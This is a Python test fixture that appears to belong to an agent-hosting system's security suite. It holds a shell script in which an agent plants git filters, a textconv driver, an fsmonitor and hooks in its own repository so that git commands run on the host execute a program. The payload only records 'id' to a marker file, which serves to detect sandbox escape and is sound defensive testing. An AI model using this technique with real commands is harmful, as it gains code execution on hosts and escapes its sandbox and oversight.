"""The attack of issues 17 and 18: an agent's own repository names programs for the host.

The agent owns its repository (``shared.agentrepo``), so it can write anything into its
``.git``: config that declares a clean filter, a textconv driver and an fsmonitor that
write ``id`` to a marker, hooks that do the same (and ``core.hooksPath`` pointing at
them), and a ``.gitattributes`` that puts every file through the filter. Written as a
POSIX shell script that needs no git, so that the same attack runs directly on an agent
repository (integration tier) or inside the agent's sandbox (docker tier).
"""

from __future__ import annotations

ATTACK = r"""
set -e
cd "$1"; marker="$2"
run="id > $marker"
printf '[filter "evil"]\n\tclean = %s && cat\n\tsmudge = %s && cat\n' "$run" "$run" >> .git/config
printf '[diff "evil"]\n\ttextconv = %s && cat\n' "$run" >> .git/config
printf '[core]\n\tfsmonitor = %s\n\thooksPath = %s/.git/hooks\n' "$run" "$PWD" >> .git/config
mkdir -p .git/hooks
for hook in pre-commit commit-msg post-commit pre-push reference-transaction post-checkout \
            post-index-change; do
  printf '#!/bin/sh\nid > %s\n' "$marker" > ".git/hooks/$hook"
  chmod +x ".git/hooks/$hook"
done
echo '* filter=evil diff=evil' > .gitattributes
echo 'new work' > stolen.txt
"""
"""``sh -c ATTACK sh <agent repository> <marker path>``."""
